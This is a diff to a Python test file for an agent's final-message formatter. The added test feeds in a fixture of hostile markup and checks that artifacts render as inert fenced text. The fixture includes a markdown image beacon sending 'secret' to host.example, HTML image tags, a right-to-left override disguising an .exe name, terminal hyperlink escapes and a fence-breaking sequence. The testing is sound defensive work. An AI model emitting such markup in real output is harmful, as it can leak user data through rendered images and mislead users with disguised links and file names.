@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import pytest
+
 from agent.graph.finalize import EXCERPT_CHARS, INLINE_LIMIT, final_message, main_artifact
 from agent.vfs.entries import file_entry as _entry
 from tests.fakes import step
+from tests.markup import CONTROLS, rendered
 
 
 def file_entry(content: str, status: str = "active"):
@@ -34,7 +37,7 @@ def test_a_small_text_artifact_is_shown_whole_after_the_answer():
     files = {"report.md": file_entry("# Report\n\nAll good.\n", status="done")}
     text = final_message("Done.", PLAN, files)
     assert text.startswith("Done.\n\n**report.md** (done, ")
-    assert text.endswith("# Report\n\nAll good.")
+    assert text.endswith("```markdown\n# Report\n\nAll good.\n```")
 
 
 def test_code_is_fenced_with_its_language():
@@ -70,3 +73,22 @@ def test_a_path_that_is_markup_is_shown_as_text_and_its_command_as_code():
     command = large.split("more characters: ")[1]
     kinds, _ = rendered(command)
     assert set(kinds) == {"code_inline"} and not any(c in large for c in CONTROLS), command
+
+
+HOSTILE_PROSE = (
+    "# Findings\n\n![seen](https://host.example/?d=secret)\n<img src=https://host.example/a.png>\n"
+    "**passed** [open](http://host.example) www.host.example\n\u202egnp.exe \x1b]8;;http://h\x07"
+    " \x9b31m red\n```\nnot the end of the block\n````\n"
+)
+
+
+@pytest.mark.parametrize("path", ["report.md", "notes.txt", "page.html", "README", "m.py"])
+def test_an_artifact_is_shown_as_written_and_never_as_live_markup(path):
+    plan = {"steps": [step("S1", path)]}
+    text = final_message("Done.", plan, {path: file_entry(HOSTILE_PROSE)})
+    kinds, _ = rendered(text)
+    assert kinds.count("fence") == 1  # the whole artifact is one block, shown as text
+    assert not {"image", "link_open", "html_block", "html_inline"} & set(kinds), kinds
+    assert not [c for c in CONTROLS if c in text]
+    assert "![seen](https://host.example/?d=secret)" in text  # its words are all still there
+    assert "not the end of the block" in text
